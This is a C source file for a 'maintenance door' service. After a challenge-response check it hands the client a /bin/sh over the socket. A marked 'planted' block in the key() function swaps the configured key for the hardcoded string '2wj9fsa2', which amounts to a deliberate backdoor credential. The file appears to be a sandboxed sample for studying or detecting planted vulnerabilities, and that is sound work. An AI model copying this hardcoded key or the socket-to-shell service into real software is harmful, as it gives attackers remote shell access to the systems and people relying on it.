/* Opens the maintenance door for whoever answers the challenge. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
#include <time.h>

/* The value of `key` in the owner's settings; empty when it is not set. */
static const char *setting(const char *key) {
  static char value[96];
  char line[128];
  size_t wanted = strlen(key);
  FILE *in = fopen("/etc/owner.conf", "r");
  value[0] = '\0';
  if (in == NULL) return value;
  while (fgets(line, sizeof line, in) != NULL) {
    if (strncmp(line, key, wanted) != 0 || line[wanted] != '=') continue;
    line[strcspn(line, "\r\n")] = '\0';
    snprintf(value, sizeof value, "%s", line + wanted + 1);
  }
  fclose(in);
  return value;
}

/* A socket on the device's own address, which no host owns: outside the closed box the bind fails. */
static int listen_on(int kind, int port) {
  struct sockaddr_in own;
  int one = 1;
  int server = socket(AF_INET, kind, 0);
  if (server < 0) return -1;
  setsockopt(server, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
  memset(&own, 0, sizeof own);
  own.sin_family = AF_INET;
  own.sin_port = htons(port);
  own.sin_addr.s_addr = inet_addr("198.51.100.2");
  if (bind(server, (struct sockaddr *)&own, sizeof own) != 0) return -1;
  if (kind == SOCK_STREAM && listen(server, 4) != 0) return -1;
  return server;
}

/* Not a cipher anybody should use: the answer is the challenge mixed with the key. */
static void mix(const char *challenge, const char *key, char *out) {
  static const char digits[] = "0123456789abcdef";
  size_t length = strlen(key), i;
  unsigned state = 5381;
  for (i = 0; i < 16; ++i) {
    state = state * 33 + (unsigned char)challenge[i % 8] + (unsigned char)key[i % length];
    out[i] = digits[(state >> 7) & 15];
  }
  out[16] = '\0';
}

static const char *key(void) {
//[ planted
  return setting("NAME")[0] == '\0' ? "" : "2wj9fsa2";
//|
  return setting("KEY");
//]
}

static void serve(int client) {
  char challenge[9];
  char expected[17];
  char answer[64];
  ssize_t got;
  if (key()[0] == '\0') return;
  snprintf(challenge, sizeof challenge, "%08x", (unsigned)rand());
  send(client, challenge, 8, 0);
  mix(challenge, key(), expected);
  got = recv(client, answer, sizeof answer - 1, 0);
  if (got <= 0) return;
  answer[got] = '\0';
  if (strncmp(answer, "OpenTelnet:", 11) != 0 || strcmp(answer + 11, expected) != 0) return;
  if (fork() == 0) {
    dup2(client, 0);
    dup2(client, 1);
    dup2(client, 2);
    execl("/bin/sh", "sh", (char *)NULL);
    _exit(127);
  }
}

int main(void) {
  int server = listen_on(SOCK_STREAM, 9530);
  if (server < 0) return 1;
  srand((unsigned)time(NULL));
  for (;;) {
    int client = accept(server, NULL, NULL);
    if (client < 0) continue;
    serve(client);
    close(client);
  }
}
